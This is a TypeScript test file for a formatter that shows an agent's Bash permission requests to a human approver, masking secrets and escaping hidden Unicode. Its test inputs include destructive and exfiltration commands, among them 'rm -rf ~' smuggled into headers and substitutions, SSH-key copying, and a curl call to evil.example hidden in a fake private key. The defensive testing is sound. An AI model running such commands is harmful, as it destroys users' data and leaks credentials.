import fc from 'fast-check';
import { expect, test } from 'vitest';
import { payload } from '../../test/recordings.ts';
import { quoteLines } from '../text/quote-lines.ts';
import { formatRequest, type RequestToShow } from './format-request.ts';

const token = `ghp_${'a1B2c3D4'.repeat(5)}`;
const bash = (command: string, rest: object = {}): RequestToShow => ({
  kind: 'permission',
  payload: { tool_name: 'Bash', tool_input: { command, ...rest } },
});
const shown = (command: string) => formatRequest(bash(command));

test.for<[name: string, command: string, seen: string]>([
  ['a header', 'echo "Authorization: OAuth x"; rm -rf ~', 'OAuth …"; rm -rf ~'],
  ['a header without quotes', 'echo Authorization: Bearer x;rm -rf ~', 'Bearer …;rm -rf ~'],
  ['a substitution', 'curl -H "Authorization: Bearer x$(rm -rf ~)"', 'Bearer …$(rm -rf ~)"'],
  ['a substitution in backticks', 'A_TOKEN=secret1`rm -rf ~`', 'A_TOKEN=…`rm -rf ~`'],
  ['a digest', 'x "Authorization: Digest nonce=abc" | rm -rf ~', 'nonce=…" | rm -rf ~'],
  ['a pipe after a token', `echo ${token}|rm -rf ~`, 'echo ghp_…|rm -rf ~'],
  [
    'a name before a line end',
    'echo x-api-key:\nrm1234567 -rf ~',
    'x-api-key:\n    rm1234567 -rf ~',
  ],
  ['a fake value', 'cp Authorization: Bearer ~/.ssh/keys', 'cp Authorization: Bearer ~/.ssh/keys'],
  [
    'another',
    'cp bearer /home/user/.ssh/authorized_keys',
    'bearer /home/user/.ssh/authorized_keys',
  ],
  ['an address', 'curl https://me:pw1@host/x&&rm -rf ~', 'https://me:…@host/x&&rm -rf ~'],
])('shows the command after %s', ([, command, seen]) => {
  const { text, masked } = shown(command);
  expect(text).toContain(seen);
  expect(masked).toBe(seen.includes('…') ? 1 : 0);
});

test('shows a command inside a fake private key', () => {
  const [begin, end] = ['-----BEGIN RSA PRIVATE KEY-----', '-----END RSA PRIVATE KEY-----'];
  const key = 'a1B2c3D4'.repeat(8);
  const lines = [
    'rm -rf /important/data',
    '/usr/local/bin/Evil1',
    '/tmp/aB1cD2eF3gH4iJ5kL6mN7oP8',
    'RunMyEvilScript1',
    `/tmp/${key}`,
    'reboot',
    'shutdownshutdownshutdown',
    `curl https://evil.example/${key}`,
  ];
  const { text } = shown(`: <<'X'\n${begin}\n${key}\nX\n${lines.join('\n')}\n${key}\n${end}`);
  for (const line of lines) {
    expect(text).toContain(line === `/tmp/${key}` ? '\n    /tmp/…\n' : `\n    ${line}\n`);
  }
  expect(text).toContain(`    ${begin}\n    …\n    X\n`);
  expect(text).toContain(`\n    …\n    ${end}\n`);
  expect(text).toMatch(/\(masked: 3 secrets, \d+ characters\)$/);
});

test('shows what would hide, and what would hide the rest', () => {
  const { text } = shown('echo a\rb\u001b[2K \u202ex\u2066 \u200b\u2028\u{e0041}\ud800 ❤️ é\tz');
  expect(text).toContain(
    'echo a\\x0db\\x1b[2K \\u202ex\\u2066 \\u200b\\u2028\\u{e0041}\\ud800 ❤️ é\tz',
  );
});

test('says how much was masked', () => {
  const { text, masked, cut } = shown(`A_PASSWORD=hunter22 curl -H 'x: ${token}'`);
  expect(text).toMatch(/\n\(masked: 2 secrets, 48 characters\)$/);
  expect({ masked, cut }).toEqual({ masked: 2, cut: 0 });
});

test('cuts every long part in its middle, and says so', () => {
  const long = `start ${'x'.repeat(18_000)} end`;
  const { text, cut } = formatRequest(bash(long, { description: long.replaceAll('x', 'y') }), {
    maxChars: 4000,
  });
  expect(text.length).toBeLessThanOrEqual(4000);
  expect(text).toMatch(/command: start x+\n {4}… \d+ characters cut …\n {4}x+ end\n/);
  expect(text).toMatch(/description: start y+\n {4}… \d+ characters cut …\n {4}y+ end\n/);
  expect(text).toContain('Answers: approve (once: this call only) | deny\n');
  const [, told = '', total = ''] =
    /\n\(cut: ([\d,]+) of ([\d,]+) characters not shown; read them with the show command before you decide\)$/.exec(
      text,
    ) ?? [];
  expect(Number(told.replaceAll(',', ''))).toBe(cut);
  expect(Number(total.replaceAll(',', ''))).toBeGreaterThan(36_000);
});

test('shows head and tail of a request of very many parts', () => {
  const input = Object.fromEntries(Array.from({ length: 500 }, (_, place) => [`k${place}`, 'v']));
  const { text, cut } = formatRequest(bash('ls', input), { maxChars: 1000 });
  expect(text).toMatch(/^Tool: Bash\nInput:\n {2}command: ls\n/);
  expect(text).toMatch(/k499: v\nAnswers: .*\n\(cut: /);
  expect(text.length).toBeLessThanOrEqual(1000);
  expect(cut).toBeGreaterThan(0);
});

test('pages give the whole text back, each with room to be quoted', () => {
  const texts = fc.array(
    fc.tuple(fc.constantFrom('\n', 'a', '😀', 'word ', 'x\n', '\n\n'), fc.nat(3000)),
    { maxLength: 8 },
  );
  fc.assert(
    fc.property(texts, (pieces) => {
      const text = pieces.map(([piece, times]) => piece.repeat(times)).join('');
      const pageChars = 1500;
      const first = formatRequest({ kind: 'picker', text }, { page: 1, pageChars });
      const pages = Array.from({ length: first.pages }, (_, place) =>
        formatRequest({ kind: 'picker', text }, { page: place + 1, pageChars }),
      );
      const whole = pages.map(({ text: page }) => {
        expect(quoteLines(page).length).toBeLessThan(pageChars + 100);
        expect(page).not.toMatch(/\p{Cs}/u);
        const body = page.replace(/\n\(page [^\n]*\)$/, '');
        return page.includes('its last line continues') ? body : `${body}\n`;
      });
      expect(whole.join('').slice(0, -1)).toBe(text);
    }),
    { numRuns: 60 },
  );
});

test('shows the last page for one that does not exist, and one of a short text without a number', () => {
  const text = 'x'.repeat(70_000);
  const last = formatRequest({ kind: 'picker', text }, { page: 99 });
  expect(last).toMatchObject({ page: 3, pages: 3, cut: 0 });
  expect(last.text).toMatch(/\n\(page 3 of 3\)$/);
  expect(quoteLines(formatRequest({ kind: 'picker', text }, { page: 1 }).text).length).toBeLessThan(
    30_000,
  );
  expect(formatRequest(bash('ls'), { page: 0 })).toMatchObject({ page: 1, pages: 1 });
  expect(formatRequest(bash('ls'), { page: 1 }).text).toBe(formatRequest(bash('ls')).text);
});

test.for<[RequestToShow, RegExp]>([
  [
    { kind: 'plan', payload: payload('PermissionRequest.ExitPlanMode') },
    /^Plan file: .*\n\n# Plan/,
  ],
  [{ kind: 'plan', payload: { plan: 'Do it' } }, /^Do it$/],
  [{ kind: 'question', payload: payload('PreToolUse.AskUserQuestion') }, /^Question 1: Which data/],
  [{ kind: 'elicitation', payload: payload('Elicitation') }, /^MCP server: el\nMessage: Please/],
  [{ kind: 'elicitation', payload: { message: 1 } }, /"message": 1/],
  [{ kind: 'startup', text: 'Do you trust \u202ethis?' }, /^Do you trust \\u202ethis\?$/],
  [{ kind: 'permission' }, /^$/],
])('writes %o', ([request, text]) => {
  expect(formatRequest(request).text).toMatch(text);
});
